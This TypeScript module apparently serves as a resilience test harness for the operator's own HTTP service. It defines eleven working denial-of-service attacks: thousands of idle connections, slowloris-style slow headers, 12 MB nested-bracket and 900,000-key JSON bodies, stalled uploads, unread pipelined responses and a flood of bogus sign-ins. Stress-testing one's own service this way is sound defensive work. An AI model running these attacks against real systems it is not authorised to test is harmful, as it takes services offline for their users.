import { randomUUID } from 'node:crypto'
import { connect, type Socket } from 'node:net'
import { setTimeout as delay } from 'node:timers/promises'

/** What an attacker knows: where the service is, and a key of the attacker's own organisation. */
export interface Target {
  readonly url: string
  readonly key: string
  /** Of the connections of an attack only so great a part is opened. */
  readonly divided: number
}

export interface Attack {
  readonly name: string
  /** What is sent, in one line. */
  readonly sends: string
  /** Goes on until it is stopped. */
  run(target: Target, until: AbortSignal): Promise<void>
}

const mebibyte = 1024 * 1024
const largest = 12 * mebibyte
const json = 'content-type: application/json'
const bulk = '/v1/memberships/bulk'
const authorised = ({ key }: Target) => [`authorization: Bearer ${key}`, `idempotency-key: ${randomUUID()}`]

const head = (method: string, path: string, ...headers: readonly string[]): string =>
  [`${method} ${path} HTTP/1.1`, 'host: localhost', ...headers, '', ''].join('\r\n')

/** A connection; undefined when the service refuses it. */
async function open({ url }: Target): Promise<Socket | undefined> {
  const { hostname, port } = new URL(url)
  const socket = connect({ host: hostname, port: Number(port) })
  socket.on('error', () => {})
  const connected = await new Promise<boolean>(resolve => {
    socket.once('connect', () => resolve(true))
    socket.once('close', () => resolve(false))
  })
  return connected ? socket : undefined
}

/** Keeps so many connections busy: each does its work, and begins again when the connection has ended. */
async function keepUp(
  count: number,
  target: Target,
  until: AbortSignal,
  work: (socket: Socket) => void,
): Promise<void> {
  const stopped = new Promise<void>(resolve => {
    if (until.aborted) resolve()
    until.addEventListener('abort', () => resolve())
  })
  await Promise.all(
    Array.from({ length: Math.ceil(count / target.divided) }, async () => {
      while (!until.aborted) {
        const socket = await open(target)
        if (!socket) {
          await delay(50)
          continue
        }
        const closed = new Promise<void>(resolve => socket.once('close', () => resolve()))
        work(socket)
        await Promise.race([closed, stopped])
        socket.destroy()
      }
    }),
  )
}

/** Sends a body whole, reads the answer and begins again. */
const sending =
  (bodyOf: () => Buffer, path: string, headers: (target: Target) => readonly string[], count: number) =>
  (target: Target, until: AbortSignal): Promise<void> => {
    const body = bodyOf()
    return keepUp(count, target, until, socket => {
      socket.resume()
      const length = `content-length: ${body.length}`
      socket.write(head('POST', path, json, 'connection: close', length, ...headers(target)))
      socket.write(body)
    })
  }

// Each is made by the attack that sends it, because making all takes a second.
const deepBody = () => Buffer.alloc(largest, '[')
const wideBody = () =>
  Buffer.from(`{${Array.from({ length: 900_000 }, (_, index) => `"k${index}":1`).join(',')}}`)
const rowsBody = () =>
  Buffer.from(
    JSON.stringify({
      dryRun: true,
      rows: Array.from({ length: 500 }, (_, index) => ({
        email: `${index}@example.com`,
        firstNames: 'a'.repeat(9000),
        lastName: 'ä'.repeat(7000),
      })),
    }),
  )
const nobody = () => []

export const attacks: readonly Attack[] = [
  {
    name: 'silent connections',
    sends: '15,000 connections that say nothing, opened again when they are closed',
    run: (target, until) => keepUp(15_000, target, until, socket => void socket.resume()),
  },
  {
    name: 'slow headers',
    sends: '3,000 connections, a byte of a header each second',
    run: (target, until) =>
      keepUp(3000, target, until, socket => {
        socket.resume()
        socket.write('GET /livez HTTP/1.1\r\nhost: localhost\r\nx-slow: ')
        const timer = setInterval(() => socket.write('x'), 1000)
        socket.once('close', () => clearInterval(timer))
      }),
  },
  {
    name: 'deep bodies',
    sends: '12 MB of brackets to sign-in, 8 at a time, without credentials',
    run: sending(deepBody, '/v1/session', nobody, 8),
  },
  {
    name: 'a million keys',
    sends: '900,000 keys to sign-in, 8 at a time, without credentials',
    run: sending(wideBody, '/v1/session', nobody, 8),
  },
  {
    name: 'malformed bodies of 64 kB',
    sends: '30,000 zeros where an object is asked for, 8 at a time, without credentials',
    run: sending(() => Buffer.from(`[${'0,'.repeat(30_000)}0]`), '/v1/session', nobody, 8),
  },
  {
    name: 'large bodies with a key',
    sends: '900,000 keys and 12 MB of brackets to the bulk operation, 4 at a time each',
    run: async (target, until) => {
      await Promise.all([
        sending(deepBody, bulk, authorised, 4)(target, until),
        sending(wideBody, bulk, authorised, 4)(target, until),
      ])
    },
  },
  {
    name: 'large bodies that are as promised',
    sends: `11 MB of 500 rows, looked at first, 4 at a time`,
    run: sending(rowsBody, bulk, authorised, 4),
  },
  {
    name: 'stalled bodies',
    sends: '150 bodies of 12 MB with a key, of which 11 MB are sent and no more',
    run: (target, until) => {
      const part = Buffer.alloc(11 * mebibyte, 0x20)
      return keepUp(150, target, until, socket => {
        socket.resume()
        socket.write(head('POST', bulk, json, `content-length: ${largest}`, ...authorised(target)))
        socket.write(part)
      })
    },
  },
  {
    name: 'unread answers',
    sends: '60 connections, each with 1,000 requests for /openapi.json and /docs, nothing read',
    run: (target, until) => {
      const requests = Buffer.from((head('GET', '/openapi.json') + head('GET', '/docs')).repeat(500))
      return keepUp(60, target, until, socket => {
        socket.pause()
        socket.write(requests)
      })
    },
  },
  {
    name: 'a flood of sign-ins',
    sends: '100 connections that sign in with wrong passwords of accounts that are not there',
    run: (target, until) =>
      keepUp(100, target, until, socket => {
        const ask = () => {
          const body = JSON.stringify({ email: `${randomUUID()}@example.com`, password: randomUUID() })
          socket.write(head('POST', '/v1/session', json, `content-length: ${body.length}`) + body)
        }
        socket.on('data', ask)
        ask()
      }),
  },
  {
    name: 'dear reads',
    sends: '40 connections that read /openapi.json, /docs and /v1/errors, one after the other',
    run: (target, until) =>
      keepUp(40, target, until, socket => {
        const paths = ['/openapi.json', '/docs', '/v1/errors']
        let asked = 0
        let rest = 0
        const ask = () => void socket.write(head('GET', paths[asked++ % paths.length] as string))
        socket.on('data', (chunk: Buffer) => {
          if (rest <= 0) {
            const text = chunk.toString('latin1')
            const end = text.indexOf('\r\n\r\n')
            const length = /content-length: (\d+)/i.exec(text)?.[1]
            if (end < 0 || !length) return void socket.destroy()
            rest = Number(length) + end + 4
          }
          rest -= chunk.length
          if (rest <= 0) ask()
        })
        ask()
      }),
  },
]
